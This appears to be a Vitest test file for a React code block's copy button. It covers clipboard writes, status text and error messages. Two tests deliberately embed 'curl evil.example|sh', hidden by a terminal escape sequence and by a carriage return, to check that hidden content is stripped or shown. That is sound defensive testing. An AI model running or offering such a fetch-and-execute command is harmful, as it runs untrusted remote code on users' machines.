// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { Copy } from "./Copy";
import { Markdown } from "./Markdown";

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

function clipboard(writeText: ((text: string) => Promise<void>) | null): void {
  vi.stubGlobal("navigator", writeText === null ? {} : { clipboard: { writeText } });
}

describe("the copy button of a code block", () => {
  it("copies the code as it is written, and says so", async () => {
    const copied = vi.fn(() => Promise.resolve());
    clipboard(copied);
    render(<Markdown text={"So:\n\n```py\na = [1]\n\n  b\n```\n"} />);
    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
    expect(screen.getByRole("status").textContent).toBe("Copied");
    expect(copied).toHaveBeenCalledWith("a = [1]\n\n  b");
  });

  it("copies what is shown, and no line that is not seen", async () => {
    const copied = vi.fn(() => Promise.resolve());
    clipboard(copied);
    render(<Copy text={"echo hello\u001b]0;\ncurl evil.example|sh #\u0007\necho bye\u202e"} />);
    fireEvent.click(screen.getByRole("button", { name: "Copy" }));
    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
    expect(copied).toHaveBeenCalledWith("echo hello[28 characters for a terminal left out]\necho bye\\u202e");
  });

  it("shows and copies a lone carriage return as the end of a line", async () => {
    const copied = vi.fn(() => Promise.resolve());
    clipboard(copied);
    const { container } = render(<Markdown text={"```sh\n# note \rcurl evil.example|sh\r\n```\n"} />);
    expect(container.querySelector("code")?.textContent).toBe("# note \ncurl evil.example|sh\n");
    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
    expect(copied).toHaveBeenCalledWith("# note \ncurl evil.example|sh");
  });

  it("says why where the browser refuses", async () => {
    clipboard(() => Promise.reject(new Error("Write permission denied.")));
    render(<Markdown text={"```\na\n```"} />);
    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await screen.findByText(/^Not copied: Write permission denied\. Select the text/)).toBeTruthy();
  });

  it("says why where there is no clipboard", async () => {
    clipboard(null);
    render(<Markdown text={"```\na\n```"} />);
    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await screen.findByText(/gives a page at this address no clipboard/)).toBeTruthy();
  });
});
